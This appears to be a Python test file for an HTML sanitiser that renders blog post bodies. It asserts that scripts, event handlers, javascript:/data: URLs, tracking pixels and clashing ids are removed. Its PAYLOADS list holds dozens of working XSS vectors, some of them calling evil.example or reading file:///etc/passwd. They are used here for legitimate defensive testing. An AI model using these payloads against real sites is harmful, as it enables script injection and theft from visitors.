"""Hostile markup: what a body brings along is harmless wherever it is shown, and none of its words are lost."""

from __future__ import annotations

import itertools
import re
from html import unescape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from masthead.content import find_images, to_html
from masthead.content.address import absolute
from masthead.model import Block, BlockKind

BASE = "https://garden.example/posts/rain/"
ACTIVE = {
    "script", "style", "iframe", "object", "embed", "applet", "form", "input", "button", "select", "textarea", "link",
    "meta", "base", "svg", "math", "frame", "frameset", "template", "noscript", "video", "audio", "source", "title",
}  # fmt: skip
ADDRESSES = {
    "href",
    "src",
    "srcset",
    "cite",
    "background",
    "action",
    "formaction",
    "poster",
    "data",
    "longdesc",
}


def render(html, kind=BlockKind.PARAGRAPH):
    """Return one block's HTML."""
    return to_html((Block(kind, "", 1, html=html),), BASE)


def elements(html):
    """Return the elements a browser would build of the HTML, by an HTML5 parser."""
    html5lib = pytest.importorskip("html5lib", reason="the tests' HTML5 parser")
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return [element for element in tree.iter() if isinstance(element.tag, str)]


def assert_harmless(html):
    """Hold that nothing in the HTML can act, load from elsewhere than http, or style."""
    for element in elements(html):
        assert element.tag.lower() not in ACTIVE, html
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), html
            assert name.lower() not in {"style", "srcdoc", "class", "target", "ping"}, html
            assert not name.lower().startswith("data-"), html
            if name.lower() in ADDRESSES and value:
                assert re.match(r"https?://[^/]|mailto:|tel:", value), html


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script >",
    "<style>@import url(//evil.example)</style>",
    "<svg onload=alert(1)><text>t</text></svg>",
    "<svg><script>1</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;1&lt;/script&gt;'></iframe>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\t=\talert(1)//>",
    "<img/src=x/onerror=alert(1)>",
    "<a href=javascript:alert(1)>l</a>",
    "<a href='JaVaScRiPt:alert(1)'>l</a>",
    "<a href=' javascript:alert(1)'>l</a>",
    "<a href='java\tscript:alert(1)'>l</a>",
    "<a href='java&#10;script:alert(1)'>l</a>",
    "<a href='&#1;javascript:alert(1)'>l</a>",
    "<a href='&#x6A;avascript:alert(1)'>l</a>",
    "<a href='\u2028javascript:alert(1)'>l</a>",
    "<a href='\xa0javascript:x'>l</a>",
    "<a href=vbscript:x>l</a>",
    "<a href='data:text/html,<script>1</script>'>l</a>",
    "<a href='file:///etc/passwd'>l</a>",
    "<a href='blob:https://x'>l</a>",
    "<a href='feed:javascript:alert(1)'>l</a>",
    "<a href='//evil.example' target=_blank>l</a>",
    "<a href='\\\\evil.example\\x'>l</a>",
    "<a href='http://'>l</a>",
    "<a href='http://[x'>l</a>",
    "<a href='http://x:99999/'>l</a>",
    "<img src='data:image/svg+xml,<svg onload=1>'>",
    "<img src=file:///etc/passwd>",
    "<img srcset='javascript:1 1x'>",
    "<img data-src=javascript:alert(1)>",
    "<img src=x style='background:url(//evil.example)'>",
    "<img dynsrc=javascript:1 lowsrc=x>",
    "<blockquote cite=javascript:alert(1)>q</blockquote>",
    "<q cite=javascript:1>q</q>",
    "<del cite=javascript:1>d</del>",
    "<form action=javascript:1><input type=image src=//t.example/p.gif><button formaction=data:x>b</button></form>",
    "<math href=javascript:1><mi>m</mi></math>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:1'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='position:fixed;top:0'>s</p>",
    '<div style="width:expression(alert(1))">s</div>',
    "<b onmouseover=alert(1)>b</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>1</script></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<textarea><script>1</script></textarea>",
    "<table background=javascript:1><tr><td background=javascript:1>c</td></tr></table>",
    "<a href=x id=location name=alert>l</a>",
    "<!--[if gte IE 4]><script>1</script><![endif]-->",
    "<![CDATA[<script>1</script>]]>",
    "<?xml-stylesheet href=javascript:1?>",
    "<img src=x alt='\"onerror=alert(1) x=\"'>",
    "<a title='<img src=x onerror=1>' href=x>l</a>",
    "<isindex action=javascript:1>",
    "<ruby><rt><img src=x onerror=1></rt></ruby>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<video src=x onerror=alert(1)><source onerror=1></video>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<x onclick=alert(1)>x</x>",
]
WRAPPINGS = [
    "{}",
    "<b>{}",
    "</p>{}<p>",
    "<a href='{}'>",
    "<table><td>{}",
    "<!--{}",
    "&lt;{}",
    "<img alt='{}'>",
    "<pre>{}</pre>",
]


@pytest.mark.parametrize(
    "kind", [BlockKind.PARAGRAPH, BlockKind.ITEM, BlockKind.TABLE, BlockKind.IMAGE, BlockKind.CODE]
)
def test_no_payload_stays_active_however_it_is_wrapped(kind):
    """Each payload in each wrapping is harmless to an HTML5 parser, and the word beside it is still there."""
    for payload, wrapping in itertools.product(PAYLOADS, WRAPPINGS):
        html = render(f"canary <i>two</i> {wrapping.format(payload)}", kind)
        assert_harmless(html)
        assert "canary" in html


@given(
    st.lists(
        st.sampled_from([*PAYLOADS, *"<>'\"=/&;-! ", "\x00", "\ud800", "\u2028", "javascript:", "on", "</"]),
        max_size=12,
    )
)
@settings(max_examples=100, deadline=None)
def test_payloads_broken_into_each_other_stay_harmless(pieces):
    """No order of fragments makes something active, and none raises."""
    assert_harmless(render("".join(pieces)))


@given(st.text(max_size=200), st.sampled_from(BlockKind))
@settings(max_examples=100, deadline=None)
def test_plain_text_is_escaped_whatever_it_says(text, kind):
    """A block without markup shows its characters, of which none is markup."""
    html = to_html((Block(kind, text, 1),), BASE)
    assert_harmless(html)
    if kind not in {BlockKind.RULE, BlockKind.HEADING}:
        shown = unescape(re.sub(r"</?[a-z0-9]+>", "", html))
        kept = "".join(char for char in text if char.isalnum())
        assert "".join(char for char in shown if char.isalnum()) == kept


@pytest.mark.parametrize(
    "sizes",
    [
        'width="1" height="1"',
        'width="0" height="0"',
        'width="1px" height="1px"',
        "width=1",
        "height=0",
        'style="width:1px"',
        'style="height: 0"',
        'style="WIDTH:1PX;height:1px"',
        'style="display:none"',
        'style="visibility: hidden"',
        "hidden",
        'style="max-height:0px"',
        'style="opacity:0"',
        'width=" 1 " height="100"',
        'style="width:0.5px"',
    ],
)
def test_tracking_pixels_go(sizes):
    """An image that nobody can see is dropped, by attribute, style, unit or one axis only."""
    assert render(f'<b>seen</b> <img src="https://t.example/p.gif" {sizes}>') == "<p><b>seen</b></p>"


@pytest.mark.parametrize(
    "sizes",
    [
        'width="100" height="1000"',
        'width="10"',
        'style="width:100%"',
        'style="line-height:1"',
        'width="1%"',
        "",
    ],
)
def test_pictures_stay(sizes):
    """An image of any size that can be seen is kept."""
    assert "https://garden.example/posts/rain/kale.jpg" in render(f'<img src="kale.jpg" {sizes}>')


def test_lazy_images_load():
    """What a script would have put into src is there at once, absolute; the placeholder is gone."""
    lazy = {
        '<img src="data:image/gif;base64,R0lGOD" data-src="/kale.jpg">': "https://garden.example/kale.jpg",
        '<img src="blank.gif" data-lazy-src="kale.jpg">': "https://garden.example/posts/rain/kale.jpg",
        '<img srcset="s.jpg 300w, m.jpg 1200w, l.jpg 4000w">': "https://garden.example/posts/rain/m.jpg",
        '<img data-srcset="a.jpg 1x, b.jpg 2x">': "https://garden.example/posts/rain/b.jpg",
        '<img src="kale.jpg" srcset="l.jpg 2000w">': "https://garden.example/posts/rain/kale.jpg",
        '<img src="kale.jpg" data-src="{{ image }}">': "https://garden.example/posts/rain/%7B%7B%20image%20%7D%7D",
    }
    for html, address in list(lazy.items())[:5]:
        assert [image.url for image in find_images(render(html))] == [address]


def test_images_keep_size_and_always_have_an_alt():
    """Width and height stay as whole pixels, other attributes go, alt is there even when empty."""
    html = render(
        '<img src="a.png" width="600px" height="50%" alt="A &quot;bed&quot;" loading=lazy class=x><img src="b.png">'
    )
    assert 'alt="A &quot;bed&quot;" width="600">' in html
    assert html.count("alt=") == 2
    first, second = find_images(html)
    assert (first.alt, first.width, first.height, first.media_type) == ('A "bed"', 600, 0, "image/png")
    assert (second.alt, second.width) == ("", 0)


@pytest.mark.parametrize(
    ("url", "whole"),
    [
        ("rain", "https://garden.example/posts/rain/rain"),
        ("/a b", "https://garden.example/a%20b"),
        ("//cdn.example/x", "https://cdn.example/x"),
        ("?q=1#f", "https://garden.example/posts/rain/?q=1#f"),
        ("HTTPS://X.example/É", "https://X.example/%C3%89"),
        ("mailto:a@b.example?subject=x", "mailto:a@b.example?subject=x"),
        ("tel:+44123", "tel:+44123"),
        ("https://x.example/%20a", "https://x.example/%20a"),
        ("../../up", "https://garden.example/up"),
        ("javascript:alert(1)", ""),
        ("java\nscript:alert(1)", ""),
        ("\x01javascript:alert(1)", ""),
        ("j\u200bavascript:x", ""),
        ("data:text/html,x", ""),
        ("ftp://x.example", ""),
        ("x" * 9000, ""),
        ("http://[::1", ""),
        ("", ""),
    ],
)
def test_addresses_are_absolute_or_nothing(url, whole):
    """Only http, https, mailto and tel stay, and these are whole."""
    assert absolute(url, BASE).replace("https://X.", "https://X.") == whole


@given(st.text(max_size=60))
@settings(max_examples=100, deadline=None)
def test_no_text_makes_a_bad_address(url):
    """Whatever is written as an address, what comes back is empty or of an allowed scheme, in ASCII, without spaces."""
    whole = absolute(url, BASE)
    assert not whole or re.match(r"(?:https?://[^/]|mailto:|tel:)", whole, re.IGNORECASE)
    assert whole.isascii()
    assert not set(whole) & set(' \t\r\n"<>\\^`{|}')


def test_ids_stay_only_where_the_body_links_to_them():
    """Footnotes work, under a prefix of the post's own; all other ids, which could clash, go."""
    body = (
        Block(
            BlockKind.PARAGRAPH, "", 1, html='See<sup id="r1"><a href="#n1">1</a></sup> <b id="login">x</b>'
        ),
        Block(
            BlockKind.PARAGRAPH,
            "",
            2,
            html='<sup id="n1">1</sup> Note <a href="#r1">back</a><i id="n1">twice</i>',
        ),
    )
    html, other = to_html(body, BASE), to_html(body, "https://garden.example/other/")
    ids = re.findall(r' id="([^"]+)"', html)
    assert len(ids) == len(set(ids)) == 2
    assert all(f'href="{BASE}#{name}"' in html for name in ids)
    assert not set(ids) & set(re.findall(r' id="([^"]+)"', other))


def test_template_marks_are_words():
    """Braces of a template language pass through as they are written."""
    for mark in ("{{7*7}}", "{% for x in y %}", "${7*7}", "#{7*7}"):
        assert mark in to_html((Block(BlockKind.PARAGRAPH, mark, 1),), BASE)
        assert mark in render(f"<b>{mark}</b>")
